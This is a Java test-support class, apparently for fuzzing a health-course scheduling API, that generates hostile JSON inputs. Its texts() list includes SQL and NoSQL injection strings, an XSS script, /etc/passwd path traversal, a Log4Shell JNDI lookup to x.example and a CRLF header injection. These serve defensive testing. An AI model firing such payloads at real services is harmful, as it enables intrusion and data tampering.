package health.courses.scheduling.support.hostile;

import static health.courses.scheduling.support.hostile.Gen.oneOf;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.UUID;

/**
 * Hostile JSON values, each generator yielding raw JSON text: wrong types, huge and odd numbers, impossible dates,
 * times and zones, broken RRULEs, control characters and NUL, injection strings, deep nesting, invalid UUIDs and forged
 * cursors. The lists are the edge cases; the drawn parts vary around them.
 */
public final class JsonValues {

    private static final ObjectMapper JSON = new ObjectMapper();

    private JsonValues() {
    }

    public static Gen<String> valid(String text) {
        return Gen.just(quoted(text));
    }

    public static Gen<String> anyValue() {
        return oneOf(texts(), numbers(), dates(), times(), zones(), weekdays(), nesting(),
                Gen.of("null", "true", "false", "[]", "{}"));
    }

    public static Gen<String> texts() {
        return oneOf(
                draw -> quoted(draw.chars(0, 40, Alphabet.ANY)),
                draw -> quoted(draw.chars(0, 40, Alphabet.MIXED)),
                draw -> quoted(draw.chars(1, 5, Alphabet.CONTROL)),
                Gen.of("'; DROP TABLE scheduling.course; --", "\" OR 1=1 --", "1' OR '1'='1", "{\"$ne\": null}",
                        "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://x.example/a}", "%00", "\u0000",
                        "a\u0000b", "\u202eevil", "𝕏🙂", "\uD800", "\\", "\"", "\r\nX-Injected: 1", " ", "",
                        "FREQ=WEEKLY;BYDAY=MO,WE,FR;COUNT=12", "FREQ=SECONDLY;COUNT=-1",
                        "RRULE:FREQ=DAILY;UNTIL=99991231T000000Z", "FREQ=WEEKLY;BYDAY=XX;INTERVAL=0")
                        .map(JsonValues::quoted),
                draw -> quoted("x".repeat(draw.between(199, 2100))),
                Gen.just(quoted("y".repeat(30_000))));
    }

    public static Gen<String> numbers() {
        return oneOf(
                Gen.of("0", "-1", "1", "2", "3", "4", "5", "7", "8", "9", "12", "13", "240", "241", "-2147483649",
                        "2147483648", "9223372036854775808", "1e308", "1e400", "-0", "0.5", "3.0", "2.9999999999",
                        "NaN", "Infinity", "-Infinity", "1E2", "0x10", "007", "+3", "\"3\"", "\"three\"", "3e-400"),
                // up to 40 digits either side of zero
                draw -> new BigInteger((draw.between(0, 1) == 0 ? "-" : "") + draw.chars(1, 40, Alphabet.DIGIT)).toString(),
                draw -> {
                    double any = Double.longBitsToDouble(draw.anyLong());
                    return Double.isFinite(any) ? String.valueOf(any) : String.valueOf(draw.between(-99_999, 99_999) / 100.0);
                });
    }

    public static Gen<String> dates() {
        return oneOf(
                Gen.of("2027-02-30", "2027-13-01", "2027-00-10", "0000-01-01", "+999999999-12-31",
                        "-999999999-01-01", "+10000-01-01", "2027-5-3", "2027-05-03T10:00", "", "tomorrow", "1899-12-31",
                        "2200-01-01", "2199-12-31", "1900-01-01", "2026-01-01", "2027-05-03Z", "20270503")
                        .map(JsonValues::quoted),
                draw -> quoted(String.format("%04d-%02d-%02d", draw.between(-5000, 300_000), draw.between(0, 13),
                        draw.between(0, 32))));
    }

    public static Gen<String> times() {
        return Gen.of("25:00", "10:60", "24:00", "23:59", "00:00", "10:00:00.123456789", "-01:00", "10",
                "10:00+02:00", "10:00Z", "7:30", "10:00:60", "noon").map(JsonValues::quoted);
    }

    public static Gen<String> zones() {
        return Gen.of("Mars/Olympus", "+02:00", "UTC", "Z", "Europe/Berlin\u0000", "../../../etc/localtime",
                "Etc/GMT+14", "SystemV/AST4", "America/Argentina/ComodRivadavia", "GMT0", "europe/berlin", "",
                "Europe/Berlin ", "CET").map(JsonValues::quoted);
    }

    public static Gen<String> weekdays() {
        return oneOf(
                Gen.of("[\"MONDAY\",\"MONDAY\",\"MONDAY\"]", "[\"FUNDAY\"]", "[null]", "[]", "[\"monday\"]",
                        "[\"MO\",\"WE\"]", "[1,2,3]", "\"MONDAY\"", "[\"SUNDAY\",\"SATURDAY\"]", "[\"MONDAY\",\"TUESDAY\"]"),
                Gen.joined(Gen.of("MONDAY", "TUESDAY", "WEDNESDAY", "THURSDAY", "FRIDAY", "SATURDAY", "SUNDAY", "X")
                        .map(JsonValues::quoted), 0, 12, ",", "[", "]"));
    }

    public static Gen<String> findings() {
        return oneOf(
                Gen.joined(Gen.of("chronic-prostatitis", "acute-prostatitis", "extensive-calcification", "congestion",
                        "oedema", "unknown", "CHRONIC-PROSTATITIS").map(JsonValues::quoted), 0, 14, ",", "[", "]"),
                Gen.of("[null]", "\"congestion\"", "[[\"congestion\"]]", "[{\"code\":\"congestion\"}]"));
    }

    /** Ids that are not ours to use: random, malformed, or real ones of another clinic or of the wrong kind. */
    public static Gen<String> uuidish(List<UUID> realButWrong) {
        return oneOf(
                draw -> quoted(draw.uuid().toString()),
                Gen.of("00000000-0000-0000-0000-000000000000", "not-a-uuid", "3f1c2a9e-7b6d-4c1e-9a8f-2b3c4d5e6f7",
                        "{3f1c2a9e-7b6d-4c1e-9a8f-2b3c4d5e6f70}", "AAAAAAAAAAAAAAAAAAAAAA==", "1-1-1-1-1",
                        "3F1C2A9E-7B6D-4C1E-9A8F-2B3C4D5E6F70", "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz")
                        .map(JsonValues::quoted),
                Gen.of(realButWrong).map(id -> quoted(id.toString())),
                texts(), numbers());
    }

    /** Cursors built like ours (base64url of keys joined by U+001F) from garbage keys, and plain garbage. */
    public static Gen<String> cursors() {
        return oneOf(
                Gen.joined(draw -> draw.chars(0, 30, Alphabet.MIXED), 1, 4, "\u001f", "", "")
                        .map(keys -> Base64.getUrlEncoder().withoutPadding()
                                .encodeToString(keys.getBytes(StandardCharsets.UTF_8))),
                draw -> draw.chars(0, 40, Alphabet.ANY)).map(JsonValues::quoted);
    }

    public static Gen<String> nesting() {
        return draw -> {
            int depth = draw.between(1, 3000);
            return switch (draw.between(0, 2)) {
                case 0 -> "[".repeat(depth) + "]".repeat(depth);
                case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
                default -> "[".repeat(depth);
            };
        };
    }

    public static String quoted(String text) {
        try {
            return JSON.writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The text of a JSON string, for use in a path or query; anything else as it is. */
    public static String unquote(String json) {
        try {
            JsonNode node = JSON.readTree(json);
            return node != null && node.isTextual() ? node.asText() : json;
        } catch (IOException e) {
            return json;
        }
    }

    public static String urlEncoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
